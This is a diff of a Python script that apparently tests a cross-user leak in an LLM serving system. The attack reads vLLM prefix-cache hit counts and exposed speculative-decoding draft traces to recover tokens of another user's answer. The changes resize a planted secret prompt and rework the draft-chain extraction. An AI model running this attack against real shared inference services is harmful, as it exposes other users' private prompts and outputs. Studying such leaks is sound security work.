@@ -15,7 +15,9 @@ KNOWN = 8
 """Tokens of the other one's answer that the attacker begins with."""
 READ = 24
 """Tokens that it tries to read after them."""
-SECRET = "<|user|>Make a table of 5 rivers with length, and then count to 12.<|end|><|assistant|>"
+_NOTES = " ".join(f"Row {number}: river {number * 7}, {number * 31} km." for number in range(30))
+SECRET = f"<|user|>{_NOTES} Now list 9 animals, then 7 cities.<|end|><|assistant|>"
+"""Half of it fills a block of vLLM's prefix cache, which has 128 tokens on a CPU."""
 Call = Callable[[str, Mapping[str, Any]], list[dict[str, Any]]]
 """(key, fields) → the chunks of a stream."""
 
@@ -96,7 +98,7 @@ def attack(call: Call, key: str, answer: Sequence[int], **fields: Any) -> Seen:
             **fields,
         )
         note(seen, chunks)
-        drafts = drafts_after(chunks, words[-1])
+        drafts = drafts_after_first(chunks)
         if not drafts:
             break
         words += drafts
@@ -125,19 +127,17 @@ def note(seen: Seen, chunks: Sequence[Mapping[str, Any]]) -> None:
     seen.cached.append(usage["prompt_tokens_details"]["cached_tokens"])
 
 
-def drafts_after(chunks: Sequence[Mapping[str, Any]], forced: int) -> list[int]:
-    """The chain that was drafted after the forced token."""
-    for choice in choices(chunks):
-        trace = (choice.get("spindle") or {}).get("trace")
-        chain: list[int] = []
-        parent = None
-        for place, node in enumerate(trace["nodes"] if trace else ()):
-            if node["parent"] == parent:
-                chain.append(node["id"])
-                parent = place
-        if any(token != forced for token in chain):
-            return chain
-    return []
+def drafts_after_first(chunks: Sequence[Mapping[str, Any]]) -> list[int]:
+    """The chain that was drafted after the first token of the output, which was forced."""
+    traces = [(choice.get("spindle") or {}).get("trace") for choice in choices(chunks)]
+    second = [trace for trace in traces if trace and trace["round"] == 2]
+    chain: list[int] = []
+    parent = None
+    for place, node in enumerate(second[0]["nodes"] if second else ()):
+        if node["parent"] == parent:
+            chain.append(node["id"])
+            parent = place
+    return chain
 
 
 def share_read(seen: Seen, answer: Sequence[int]) -> float:
